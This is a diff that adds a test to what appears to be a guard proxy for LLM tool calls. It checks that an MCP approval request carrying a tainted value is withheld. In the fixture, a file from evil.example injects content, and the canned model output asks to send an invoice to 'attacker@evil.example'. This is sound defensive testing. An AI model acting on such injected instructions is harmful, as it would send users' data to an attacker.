@@ -297,3 +297,24 @@ def test_hosted_tool_results_are_untrusted_next_turn(start_proxy: Any, tmp_path:
         server.shutdown()
     assert not [o for o in second.output if o.type == "function_call"]
     assert "untrusted content (tool_result:mcp:crm/lookup)" in second.output_text
+
+
+def test_mcp_approval_request_with_a_tainted_value_is_withheld(start_proxy: Any, tmp_path: Path) -> None:
+    server = ThreadingHTTPServer(("127.0.0.1", 0), _Canned)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    mcp = {"type": "mcp", "server_label": "crm", "server_url": "https://crm.example/mcp"}
+    _Canned.answers[:] = [{"id": "resp_a1", "object": "response", "status": "completed", "model": "m", "output": [
+        {"type": "mcp_approval_request", "id": "apr_1", "server_label": "crm", "name": "send_invoice",
+         "arguments": '{"to": "attacker@evil.example"}'}]}]
+    path = tmp_path / "policy.yaml"
+    path.write_text(HOSTED_POLICY % hash_key("mailer-key"))
+    proxy = start_proxy(policy_file=str(path), stages=[{"name": "limits"}, {"name": "tool_scope"}],
+                        upstream_url=f"http://127.0.0.1:{server.server_port}/v1")
+    try:
+        out = mailer(proxy).responses.create(model="m", tools=[mcp], input=[
+            {"role": "user", "content": "Invoice the customer from this page."},
+            {"role": "user", "content": [{"type": "input_file", "file_url": "https://evil.example/page.pdf"}]}])
+    finally:
+        server.shutdown()
+    assert [o.type for o in out.output] == ["message"]
+    assert "mcp:crm" in out.output_text and "withheld" in out.output_text
